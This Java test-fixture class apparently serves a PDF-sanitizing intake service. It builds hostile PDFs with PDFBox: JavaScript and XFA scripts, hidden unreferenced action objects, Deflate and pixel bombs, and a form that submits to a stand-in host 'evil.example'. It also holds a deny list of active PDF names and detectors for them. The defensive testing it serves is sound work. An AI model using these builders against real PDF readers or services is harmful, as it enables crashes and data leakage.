package org.juryroom.storage.scrub;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.text.PDFTextStripper;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Deque;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

/**
 * PDFs built to attack intake, made here with PDFBox's COS objects or raw bytes (nothing
 * downloaded), and the checks a clean copy must pass: no name of active content, found either by
 * searching the bytes or by parsing.
 */
public final class HostilePdfs {

    /** The names no clean copy may hold, as a key or a value, anywhere. */
    public static final List<String> ACTIVE = List.of("JavaScript", "JS", "XFA", "AA", "OpenAction", "Launch",
            "EmbeddedFile", "EmbeddedFiles", "URI", "SubmitForm", "RichMedia", "AcroForm", "Annots", "Outlines",
            "Names", "Metadata", "Next", "A");

    private HostilePdfs() {
    }

    // ---- refused ------------------------------------------------------------------------------

    /** {@code /OpenAction} → {@code levels} actions chained by direct {@code /Next} → {@code /S /JavaScript}. */
    public static byte[] deepJavaScript(int levels) throws IOException {
        return essay("Deep", CompressParameters.NO_COMPRESSION, doc -> {
            COSDictionary js = dict("S", "JavaScript");
            js.setString(COSName.JS, "app.alert('deep')");
            js.setDirect(true);
            COSDictionary next = js;
            for (int i = 0; i < levels; i++) {
                COSDictionary action = dict("S", "GoTo");
                action.setItem(COSName.D, array(COSInteger.ZERO, COSName.getPDFName("Fit")));
                action.setItem(COSName.NEXT, next);
                action.setDirect(true);
                next = action;
            }
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, next);
        });
    }

    /** An AcroForm whose XFA packet carries a script. */
    public static byte[] xfaWithScript() throws IOException {
        return essay("Form", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream xfa = doc.getDocument().createCOSStream();
            try (OutputStream out = xfa.createOutputStream()) {
                out.write(("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><subform><event activity="
                        + "\"initialize\"><script contentType=\"application/x-javascript\">app.alert(1)</script>"
                        + "</event></subform></template></xdp:xdp>").getBytes(StandardCharsets.UTF_8));
            }
            COSDictionary form = new COSDictionary();
            form.setItem(COSName.FIELDS, new COSArray());
            form.setItem(COSName.XFA, xfa);
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);
        });
    }

    /**
     * A plain essay with a JavaScript object added between its trailer and {@code startxref}: in
     * the bytes, but in no cross-reference table. {@code name} is how the name is written, e.g.
     * {@code /Java#53cript}.
     */
    public static byte[] unreferencedJavaScript(String name) throws IOException {
        String pdf = new String(essay("Hidden", CompressParameters.NO_COMPRESSION, doc -> { }), StandardCharsets.ISO_8859_1);
        int at = pdf.lastIndexOf("startxref");
        return (pdf.substring(0, at) + "99 0 obj\n<< /Type /Action /S " + name + " /JS (app.alert(1)) >>\nendobj\n"
                + pdf.substring(at)).getBytes(StandardCharsets.ISO_8859_1);
    }

    /** One image XObject announcing {@code width}×{@code height} grey pixels, with almost no data. */
    public static byte[] pixelBomb(int width, int height) throws IOException {
        return essay("Bomb", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream image = doc.getDocument().createCOSStream();
            image.setItem(COSName.TYPE, COSName.XOBJECT);
            image.setItem(COSName.SUBTYPE, COSName.IMAGE);
            image.setInt(COSName.WIDTH, width);
            image.setInt(COSName.HEIGHT, height);
            image.setItem(COSName.COLORSPACE, COSName.DEVICEGRAY);
            image.setInt(COSName.BITS_PER_COMPONENT, 8);
            try (OutputStream out = image.createOutputStream(COSName.FLATE_DECODE)) {
                out.write(new byte[4096]);
            }
            drawImage(doc, image);
        });
    }

    /** Where a Deflate bomb sits: the page's content, an image declaring 100×100 pixels, a form XObject. */
    public enum BombIn { CONTENT, IMAGE, FORM }

    /**
     * {@code megabytes} of zeros, deflated to about a thousandth of that, in {@code where}: PDFBox
     * would inflate it whole into memory.
     */
    public static byte[] deflateBomb(BombIn where, int megabytes) throws IOException {
        return essay("Bomb", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream bomb = doc.getDocument().createCOSStream();
            bomb.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            try (OutputStream out = new java.util.zip.DeflaterOutputStream(bomb.createRawOutputStream(),
                    new java.util.zip.Deflater(9), 1 << 16)) {
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < megabytes; i++) {
                    out.write(zeros);
                }
            }
            switch (where) {
                case CONTENT -> doc.getPage(0).getCOSObject().setItem(COSName.CONTENTS, bomb);
                case IMAGE -> {
                    bomb.setItem(COSName.TYPE, COSName.XOBJECT);
                    bomb.setItem(COSName.SUBTYPE, COSName.IMAGE);
                    bomb.setInt(COSName.WIDTH, 100);
                    bomb.setInt(COSName.HEIGHT, 100);
                    bomb.setItem(COSName.COLORSPACE, COSName.DEVICEGRAY);
                    bomb.setInt(COSName.BITS_PER_COMPONENT, 8);
                    drawImage(doc, bomb);
                }
                case FORM -> {
                    bomb.setItem(COSName.TYPE, COSName.XOBJECT);
                    bomb.setItem(COSName.SUBTYPE, COSName.FORM);
                    bomb.setItem(COSName.BBOX, new PDRectangle(0, 0, 100, 100).getCOSArray());
                    try (PDPageContentStream c = new PDPageContentStream(doc, doc.getPage(0),
                            PDPageContentStream.AppendMode.APPEND, false)) {
                        c.drawForm(new org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject(bomb));
                    }
                }
                default -> throw new IllegalArgumentException();
            }
        });
    }

    /**
     * A one-page PDF written byte by byte with an object stream ({@code /ObjStm}) whose Deflate
     * data inflates to {@code megabytes} of spaces after its one object: PDFBox inflates object
     * streams whole while it parses.
     */
    public static byte[] objectStreamBomb(int megabytes) throws IOException {
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        try (OutputStream out = new java.util.zip.DeflaterOutputStream(data, new java.util.zip.Deflater(9), 1 << 16)) {
            out.write("5 0 << /Kind /Padding >>".getBytes(StandardCharsets.ISO_8859_1));
            byte[] spaces = new byte[1 << 20];
            Arrays.fill(spaces, (byte) ' ');
            for (int i = 0; i < megabytes; i++) {
                out.write(spaces);
            }
        }
        ByteArrayOutputStream pdf = new ByteArrayOutputStream();
        List<Integer> offsets = new ArrayList<>();
        pdf.writeBytes("%PDF-1.5\n".getBytes(StandardCharsets.ISO_8859_1));
        String[] objects = {"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"};
        for (int i = 0; i < objects.length; i++) {
            offsets.add(pdf.size());
            pdf.writeBytes(((i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n").getBytes(StandardCharsets.ISO_8859_1));
        }
        offsets.add(pdf.size());
        pdf.writeBytes(("4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + data.size()
                + " >>\nstream\n").getBytes(StandardCharsets.ISO_8859_1));
        pdf.writeBytes(data.toByteArray());
        pdf.writeBytes("\nendstream\nendobj\n".getBytes(StandardCharsets.ISO_8859_1));
        int xref = pdf.size();
        StringBuilder table = new StringBuilder("xref\n0 5\n0000000000 65535 f \n");
        offsets.forEach(o -> table.append(String.format("%010d 00000 n \n", o)));
        table.append("trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n").append(xref).append("\n%%EOF\n");
        pdf.writeBytes(table.toString().getBytes(StandardCharsets.ISO_8859_1));
        return pdf.toByteArray();
    }

    /** An inline image of 100×100 pixels whose data (hex, then Deflate) inflates to {@code megabytes}. */
    public static byte[] inlineDeflateBomb(int megabytes) throws IOException {
        ByteArrayOutputStream deflated = new ByteArrayOutputStream();
        try (OutputStream out = new java.util.zip.DeflaterOutputStream(deflated, new java.util.zip.Deflater(9), 1 << 16)) {
            byte[] zeros = new byte[1 << 20];
            for (int i = 0; i < megabytes; i++) {
                out.write(zeros);
            }
        }
        String content = "q 100 0 0 100 50 50 cm BI /W 100 /H 100 /CS /G /BPC 8 /F [/AHx /Fl] ID "
                + java.util.HexFormat.of().formatHex(deflated.toByteArray()) + "> EI Q";
        return essay("Inline bomb", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream stream = doc.getDocument().createCOSStream();
            try (OutputStream out = stream.createOutputStream()) {
                out.write(content.getBytes(StandardCharsets.ISO_8859_1));
            }
            doc.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
        });
    }

    /** A JPEG image whose dictionary says 100×100 but whose own header says 60000×60000. */
    public static byte[] jpegLyingAboutItsSize(byte[] smallJpeg) throws IOException {
        byte[] jpeg = smallJpeg.clone();
        for (int i = 0; i + 8 < jpeg.length; i++) {
            if ((jpeg[i] & 0xFF) == 0xFF && ((jpeg[i + 1] & 0xFF) == 0xC0 || (jpeg[i + 1] & 0xFF) == 0xC2)) {
                jpeg[i + 5] = (byte) (60000 >> 8);
                jpeg[i + 6] = (byte) 60000;
                jpeg[i + 7] = (byte) (60000 >> 8);
                jpeg[i + 8] = (byte) 60000;
                break;
            }
        }
        return essay("Liar", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream image = doc.getDocument().createCOSStream();
            image.setItem(COSName.TYPE, COSName.XOBJECT);
            image.setItem(COSName.SUBTYPE, COSName.IMAGE);
            image.setInt(COSName.WIDTH, 100);
            image.setInt(COSName.HEIGHT, 100);
            image.setItem(COSName.COLORSPACE, COSName.DEVICERGB);
            image.setInt(COSName.BITS_PER_COMPONENT, 8);
            image.setItem(COSName.FILTER, COSName.DCT_DECODE);
            try (OutputStream out = image.createRawOutputStream()) {
                out.write(jpeg);
            }
            drawImage(doc, image);
        });
    }

    /** An inline image (in the content stream itself) announcing 20000×20000 pixels. */
    public static byte[] inlineImageBomb() throws IOException {
        return essay("Inline", CompressParameters.NO_COMPRESSION, doc -> {
            try (PDPageContentStream c = new PDPageContentStream(doc, doc.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                c.saveGraphicsState();
                c.transform(new org.apache.pdfbox.util.Matrix(100, 0, 0, 100, 50, 50));
                c.drawImage(new org.apache.pdfbox.pdmodel.graphics.image.PDInlineImage(inlineBombDictionary(),
                        new byte[] {0}, new PDResources()), 0, 0);
                c.restoreGraphicsState();
            }
        });
    }

    private static COSDictionary inlineBombDictionary() {
        COSDictionary d = new COSDictionary();
        d.setInt(COSName.W, 20000);
        d.setInt(COSName.H, 20000);
        d.setItem(COSName.CS, COSName.getPDFName("G"));
        d.setInt(COSName.BPC, 8);
        return d;
    }

    public static byte[] pages(int count) throws IOException {
        try (PDDocument doc = new PDDocument()) {
            for (int i = 0; i < count; i++) {
                doc.addPage(new PDPage());
            }
            return save(doc, CompressParameters.DEFAULT_COMPRESSION);
        }
    }

    public static byte[] pageOfSize(float width, float height) throws IOException {
        return essay("Size", CompressParameters.NO_COMPRESSION, doc -> doc.getPage(0).setMediaBox(new PDRectangle(width, height)));
    }

    /** Page resources whose /Properties hold arrays nested {@code levels} deep. */
    public static byte[] nestedResources(int levels) throws IOException {
        return essay("Nested", CompressParameters.NO_COMPRESSION, doc -> {
            COSArray inner = new COSArray();
            for (int i = 0; i < levels; i++) {
                COSArray outer = new COSArray();
                outer.add(inner);
                outer.setDirect(true);
                inner = outer;
            }
            COSDictionary props = new COSDictionary();
            props.setItem(COSName.getPDFName("Deep"), inner);
            doc.getPage(0).getResources().getCOSObject().setItem(COSName.PROPERTIES, props);
        });
    }

    // ---- accepted, with everything active dropped ---------------------------------------------

    /**
     * A readable essay ("Hello from an essay", and "inside a form" drawn by a form XObject) loaded
     * with active content this service does not refuse but must not pass on: a link annotation
     * with a URI action, page and form additional actions, an open action chain, an AcroForm with
     * a submit action, outlines, named destinations, a RichMedia annotation, XMP and document
     * information; and page resources that smuggle actions (an "XObject" that is an action, a font
     * with additional actions, an unknown resource kind, a graphics state with an open action).
     */
    public static byte[] everythingActiveButRefusable() throws IOException {
        return essay("Hello from an essay", CompressParameters.NO_COMPRESSION, doc -> {
            PDPage page = doc.getPage(0);
            COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
            COSDictionary uri = uriAction();
            COSDictionary goTo = dict("S", "GoTo");
            goTo.setItem(COSName.D, array(page.getCOSObject(), COSName.getPDFName("Fit")));
            goTo.setItem(COSName.NEXT, uri);
            catalog.setItem(COSName.OPEN_ACTION, goTo);

            COSDictionary submit = dict("S", "SubmitForm");
            submit.setString(COSName.F, "http://evil.example/collect");
            COSDictionary field = new COSDictionary();
            field.setItem(COSName.FT, COSName.getPDFName("Btn"));
            field.setString(COSName.T, "send");
            field.setItem(COSName.A, submit);
            COSDictionary acro = new COSDictionary();
            acro.setItem(COSName.FIELDS, array(field));
            catalog.setItem(COSName.ACRO_FORM, acro);

            COSDictionary outline = new COSDictionary();
            COSDictionary item = new COSDictionary();
            item.setString(COSName.TITLE, "Chapter");
            item.setItem(COSName.A, uriAction());
            outline.setItem(COSName.FIRST, item);
            outline.setItem(COSName.LAST, item);
            catalog.setItem(COSName.OUTLINES, outline);
            COSDictionary names = new COSDictionary();
            COSDictionary dests = new COSDictionary();
            dests.setItem(COSName.NAMES, array(new COSString("start"), goTo));
            names.setItem(COSName.DESTS, dests);
            catalog.setItem(COSName.NAMES, names);
            doc.getDocumentInformation().setAuthor("Riya Sen");

            COSDictionary link = dict("Subtype", "Link");
            link.setItem(COSName.TYPE, COSName.ANNOT);
            link.setItem(COSName.RECT, new PDRectangle(50, 50, 100, 20).getCOSArray());
            link.setItem(COSName.A, uriAction());
            COSDictionary media = dict("Subtype", "RichMedia");
            media.setItem(COSName.TYPE, COSName.ANNOT);
            media.setItem(COSName.RECT, new PDRectangle(50, 100, 100, 20).getCOSArray());
            media.setItem(COSName.getPDFName("RichMediaContent"), new COSDictionary());
            page.getCOSObject().setItem(COSName.ANNOTS, array(link, media));
            COSDictionary pageActions = new COSDictionary();
            pageActions.setItem(COSName.O, submit);
            page.getCOSObject().setItem(COSName.AA, pageActions);

            COSDictionary resources = page.getResources().getCOSObject();
            COSDictionary xobjects = new COSDictionary();
            xobjects.setItem(COSName.getPDFName("X9"), submit);
            xobjects.setItem(COSName.getPDFName("Fm1"), form(doc));
            resources.setItem(COSName.XOBJECT, xobjects);
            COSDictionary fonts = resources.getCOSDictionary(COSName.FONT);
            COSDictionary font = (COSDictionary) fonts.getDictionaryObject(fonts.keySet().iterator().next());
            COSDictionary fontActions = new COSDictionary();
            fontActions.setItem(COSName.O, uriAction());
            font.setItem(COSName.AA, fontActions);
            resources.setItem(COSName.getPDFName("Evil"), uriAction());
            COSDictionary gs = dict("Type", "ExtGState");
            gs.setItem(COSName.OPEN_ACTION, uriAction());
            COSDictionary states = new COSDictionary();
            states.setItem(COSName.getPDFName("GS9"), gs);
            resources.setItem(COSName.EXT_G_STATE, states);
            try (PDPageContentStream c = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.APPEND, false)) {
                c.drawForm(new org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject(
                        (COSStream) xobjects.getDictionaryObject(COSName.getPDFName("Fm1"))));
            }
            // drawForm registered the form under a new name; keep the smuggled entries beside it.
        });
    }

    private static COSStream form(PDDocument doc) throws IOException {
        COSStream form = doc.getDocument().createCOSStream();
        form.setItem(COSName.TYPE, COSName.XOBJECT);
        form.setItem(COSName.SUBTYPE, COSName.FORM);
        form.setItem(COSName.BBOX, new PDRectangle(0, 0, 600, 800).getCOSArray());
        COSDictionary fonts = new COSDictionary();
        fonts.setItem(COSName.getPDFName("F1"), new PDType1Font(Standard14Fonts.FontName.TIMES_ROMAN).getCOSObject());
        COSDictionary res = new COSDictionary();
        res.setItem(COSName.FONT, fonts);
        form.setItem(COSName.RESOURCES, res);
        COSDictionary formActions = new COSDictionary();
        formActions.setItem(COSName.O, uriAction());
        form.setItem(COSName.AA, formActions);
        try (OutputStream out = form.createOutputStream(COSName.FLATE_DECODE)) {
            out.write("BT /F1 14 Tf 72 500 Td (inside a form) Tj ET".getBytes(StandardCharsets.ISO_8859_1));
        }
        return form;
    }

    private static COSDictionary uriAction() {
        COSDictionary uri = dict("S", "URI");
        uri.setItem(COSName.TYPE, COSName.getPDFName("Action"));
        uri.setString(COSName.URI, "http://evil.example/track");
        return uri;
    }

    // ---- checks of a clean copy ---------------------------------------------------------------

    /** {@link #ACTIVE} names written in the bytes (as {@code /Name} followed by a delimiter). */
    public static Set<String> activeInBytes(byte[] pdf) {
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        Set<String> found = new TreeSet<>();
        for (String name : ACTIVE) {
            if (java.util.regex.Pattern.compile("/" + name + "(?![A-Za-z0-9#._-])").matcher(text).find()) {
                found.add(name);
            }
        }
        return found;
    }

    /**
     * {@link #ACTIVE} names that PDFBox finds as a key or a name value in any object of the file
     * (every cross-reference entry and the trailer, followed to any depth), and the document
     * information's keys.
     */
    public static Set<String> activeParsed(byte[] pdf) throws IOException {
        Set<String> found = new TreeSet<>();
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            Deque<COSBase> stack = new ArrayDeque<>();
            stack.push(doc.getDocument().getTrailer());
            for (COSObjectKey key : new ArrayList<>(doc.getDocument().getXrefTable().keySet())) {
                stack.push(doc.getDocument().getObjectFromPool(key));
            }
            Map<COSBase, Boolean> seen = new IdentityHashMap<>();
            while (!stack.isEmpty()) {
                COSBase value = stack.pop();
                if (value instanceof COSObject o) {
                    value = o.getObject();
                }
                if (value == null || seen.put(value, true) != null) {
                    continue;
                }
                if (value instanceof COSName n && ACTIVE.contains(n.getName())) {
                    found.add(n.getName());
                } else if (value instanceof COSArray a) {
                    a.forEach(stack::push);
                } else if (value instanceof COSDictionary d) {
                    d.keySet().stream().map(COSName::getName).filter(ACTIVE::contains).forEach(found::add);
                    d.getValues().forEach(stack::push);
                }
            }
            found.addAll(doc.getDocumentInformation().getMetadataKeys());
        }
        return found;
    }

    public static String text(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            return new PDFTextStripper().getText(doc);
        }
    }

    public static int pageCount(byte[] pdf) throws IOException {
        try (PDDocument doc = Loader.loadPDF(pdf)) {
            return doc.getNumberOfPages();
        }
    }

    public static byte[] read(Path p) throws IOException {
        return Files.readAllBytes(p);
    }

    // ---- building -----------------------------------------------------------------------------

    private interface Change {
        void apply(PDDocument doc) throws IOException;
    }

    /**
     * A phone photo with GPS and EXIF (poster-03) as an image XObject, as PDFBox's JPEGFactory and most
     * programs embed it (the JPEG file as it is), whose dictionary also carries pdfTeX's {@code /PTEX.InfoDict}
     * with the author and {@code /PTEX.FileName} with a path; and a photo with its author in EXIF
     * (poster-06) as an inline JPEG image with a private key of its own.
     */
    public static byte[] photoEssay(Path samples) throws IOException {
        byte[] gps = Files.readAllBytes(samples.resolve("posters/poster-03-phone-gps.jpg"));
        byte[] author = Files.readAllBytes(samples.resolve("posters/poster-06-author-only.jpg"));
        return essay("Photos", CompressParameters.NO_COMPRESSION, doc -> {
            var image = org.apache.pdfbox.pdmodel.graphics.image.JPEGFactory.createFromByteArray(doc, gps);
            COSDictionary info = new COSDictionary();
            info.setString(COSName.AUTHOR, "Arindam Dey");
            image.getCOSObject().setItem(COSName.getPDFName("PTEX.InfoDict"), info);
            image.getCOSObject().setString(COSName.getPDFName("PTEX.FileName"), "/home/arindam/DCIM/IMG_0042.jpg");
            image.getCOSObject().setItem(COSName.METADATA, info);
            var size = javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(author));
            try (PDPageContentStream c = new PDPageContentStream(doc, doc.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                c.drawImage(image, 50, 400, 300, 225);
            }
            // PDFBox writes an inline image decoded, so this one is written by hand, as other programs write it.
            COSStream inline = doc.getDocument().createCOSStream();
            try (OutputStream out = inline.createRawOutputStream()) {
                out.write(("q 300 0 0 225 50 100 cm\nBI /W " + size.getWidth() + " /H " + size.getHeight()
                        + " /BPC 8 /CS /RGB /F /DCT /PTEX.FileName (/home/arindam/DCIM/IMG_0043.jpg)\nID ")
                        .getBytes(StandardCharsets.ISO_8859_1));
                out.write(author);
                out.write("\nEI\nQ\n".getBytes(StandardCharsets.ISO_8859_1));
            }
            COSDictionary page = doc.getPage(0).getCOSObject();
            COSBase contents = page.getDictionaryObject(COSName.CONTENTS);
            COSArray all = contents instanceof COSArray a ? a : new COSArray(List.of(contents));
            all.add(inline);
            page.setItem(COSName.CONTENTS, all);
        });
    }

    /**
     * The inline JPEG photo with its EXIF and a private key, where a page draws it through something else: a form
     * XObject, a tiling pattern and a Type 3 font's glyph. Written unencoded, as other programs may write them.
     */
    public static byte[] photosDrawnThroughForms(Path samples) throws IOException {
        byte[] author = Files.readAllBytes(samples.resolve("posters/poster-06-author-only.jpg"));
        var size = javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(author));
        return essay("Drawn through", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream form = inlinePhoto(doc, author, size, "IMG_0044", "");
            form.setItem(COSName.TYPE, COSName.XOBJECT);
            form.setItem(COSName.SUBTYPE, COSName.FORM);
            form.setItem(COSName.BBOX, new PDRectangle(0, 0, 600, 800).getCOSArray());
            COSStream pattern = inlinePhoto(doc, author, size, "IMG_0045", "");
            pattern.setItem(COSName.TYPE, COSName.PATTERN);
            pattern.setInt(COSName.PATTERN_TYPE, 1);
            pattern.setInt(COSName.PAINT_TYPE, 1);
            pattern.setInt(COSName.TILING_TYPE, 1);
            pattern.setItem(COSName.BBOX, new PDRectangle(0, 0, 600, 800).getCOSArray());
            pattern.setInt(COSName.X_STEP, 600);
            pattern.setInt(COSName.Y_STEP, 800);
            pattern.setItem(COSName.RESOURCES, new COSDictionary());
            COSStream glyph = inlinePhoto(doc, author, size, "IMG_0046", "1000 0 d0\n");
            COSDictionary glyphs = new COSDictionary();
            glyphs.setItem(COSName.getPDFName("photo"), glyph);
            COSDictionary font = new COSDictionary();
            font.setItem(COSName.TYPE, COSName.FONT);
            font.setItem(COSName.SUBTYPE, COSName.getPDFName("Type3"));
            font.setItem(COSName.FONT_BBOX, new PDRectangle(0, 0, 1000, 1000).getCOSArray());
            font.setItem(COSName.FONT_MATRIX, array(new org.apache.pdfbox.cos.COSFloat(0.001f), COSInteger.ZERO,
                    COSInteger.ZERO, new org.apache.pdfbox.cos.COSFloat(0.001f), COSInteger.ZERO, COSInteger.ZERO));
            font.setItem(COSName.getPDFName("CharProcs"), glyphs);
            COSDictionary encoding = new COSDictionary();
            encoding.setItem(COSName.TYPE, COSName.ENCODING);
            encoding.setItem(COSName.DIFFERENCES, array(COSInteger.get(65), COSName.getPDFName("photo")));
            font.setItem(COSName.ENCODING, encoding);
            font.setInt(COSName.FIRST_CHAR, 65);
            font.setInt(COSName.LAST_CHAR, 65);
            font.setItem(COSName.WIDTHS, array(COSInteger.get(1000)));
            font.setItem(COSName.RESOURCES, new COSDictionary());

            PDResources resources = doc.getPage(0).getResources();
            resources.getCOSObject().setItem(COSName.XOBJECT, dict("Photo", form));
            resources.getCOSObject().setItem(COSName.PATTERN, dict("Tiles", pattern));
            COSDictionary fonts = (COSDictionary) resources.getCOSObject().getDictionaryObject(COSName.FONT);
            fonts.setItem(COSName.getPDFName("Glyphs"), font);
            try (PDPageContentStream c = new PDPageContentStream(doc, doc.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                c.appendRawCommands("q /Photo Do Q\nq /Pattern cs /Tiles scn 0 0 600 800 re f Q\n"
                        + "BT /Glyphs 100 Tf 50 50 Td (A) Tj ET\n");
            }
        });
    }

    /** An unencoded content stream that draws the inline JPEG, with {@code before} ahead of it. */
    private static COSStream inlinePhoto(PDDocument doc, byte[] jpeg, java.awt.image.BufferedImage size, String file,
                                         String before) throws IOException {
        COSStream stream = doc.getDocument().createCOSStream();
        try (OutputStream out = stream.createRawOutputStream()) {
            out.write((before + "q 300 0 0 225 50 100 cm\nBI /W " + size.getWidth() + " /H " + size.getHeight()
                    + " /BPC 8 /CS /RGB /F /DCT /PTEX.FileName (/home/arindam/DCIM/" + file + ".jpg)\nID ")
                    .getBytes(StandardCharsets.ISO_8859_1));
            out.write(jpeg);
            out.write("\nEI\nQ\n".getBytes(StandardCharsets.ISO_8859_1));
        }
        return stream;
    }

    /** An inline image announcing 20000×20000 pixels inside a form XObject the page draws. */
    public static byte[] inlineImageBombInAForm() throws IOException {
        return essay("Inline in a form", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream form = doc.getDocument().createCOSStream();
            form.setItem(COSName.TYPE, COSName.XOBJECT);
            form.setItem(COSName.SUBTYPE, COSName.FORM);
            form.setItem(COSName.BBOX, new PDRectangle(0, 0, 600, 800).getCOSArray());
            try (OutputStream out = form.createOutputStream(COSName.FLATE_DECODE)) {
                out.write("q 100 0 0 100 50 50 cm BI /W 20000 /H 20000 /CS /G /BPC 8 ID \0 EI Q"
                        .getBytes(StandardCharsets.ISO_8859_1));
            }
            doc.getPage(0).getResources().getCOSObject().setItem(COSName.XOBJECT, dict("Bomb", form));
            try (PDPageContentStream c = new PDPageContentStream(doc, doc.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
                c.appendRawCommands("q /Bomb Do Q\n");
            }
        });
    }

    /**
     * An RGB image of {@code width}×{@code height} black pixels, Deflate-compressed (a few kilobytes for
     * megabytes of samples), optionally behind ASCIIHex as well (two filters: a decoding stage before the last).
     */
    public static byte[] flateImage(int width, int height, boolean hex) throws IOException {
        return essay("Flat", CompressParameters.NO_COMPRESSION, doc -> {
            COSStream image = doc.getDocument().createCOSStream();
            image.setItem(COSName.TYPE, COSName.XOBJECT);
            image.setItem(COSName.SUBTYPE, COSName.IMAGE);
            image.setInt(COSName.WIDTH, width);
            image.setInt(COSName.HEIGHT, height);
            image.setItem(COSName.COLORSPACE, COSName.DEVICERGB);
            image.setInt(COSName.BITS_PER_COMPONENT, 8);
            ByteArrayOutputStream deflated = new ByteArrayOutputStream();
            try (var z = new java.util.zip.DeflaterOutputStream(deflated, new java.util.zip.Deflater(9))) {
                byte[] row = new byte[width * 3];
                for (int y = 0; y < height; y++) {
                    z.write(row);
                }
            }
            byte[] raw = deflated.toByteArray();
            if (hex) {
                image.setItem(COSName.FILTER, new COSArray(List.of(COSName.ASCII_HEX_DECODE, COSName.FLATE_DECODE)));
                raw = (java.util.HexFormat.of().formatHex(raw) + ">").getBytes(StandardCharsets.US_ASCII);
            } else {
                image.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            }
            try (OutputStream out = image.createRawOutputStream()) {
                out.write(raw);
            }
            drawImage(doc, image);
        });
    }

    /** One page with {@code text} in Helvetica, then {@code change}. */
    private static byte[] essay(String text, CompressParameters compression, Change change) throws IOException {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream c = new PDPageContentStream(doc, page)) {
                c.beginText();
                c.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
                c.newLineAtOffset(72, 700);
                c.showText(text);
                c.endText();
            }
            change.apply(doc);
            return save(doc, compression);
        }
    }

    private static void drawImage(PDDocument doc, COSStream image) throws IOException {
        try (PDPageContentStream c = new PDPageContentStream(doc, doc.getPage(0), PDPageContentStream.AppendMode.APPEND, false)) {
            c.drawImage(new org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject(new org.apache.pdfbox.pdmodel.common.PDStream(image), null), 50, 50, 100, 100);
        }
    }

    private static byte[] save(PDDocument doc, CompressParameters compression) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        doc.save(out, compression);
        return out.toByteArray();
    }

    private static COSArray array(COSBase... items) {
        COSArray a = new COSArray();
        for (COSBase item : items) {
            a.add(item);
        }
        return a;
    }

    private static COSDictionary dict(String key, String name) {
        COSDictionary d = new COSDictionary();
        d.setItem(COSName.getPDFName(key), COSName.getPDFName(name));
        return d;
    }

    private static COSDictionary dict(String key, COSBase value) {
        COSDictionary d = new COSDictionary();
        d.setItem(COSName.getPDFName(key), value);
        return d;
    }
}
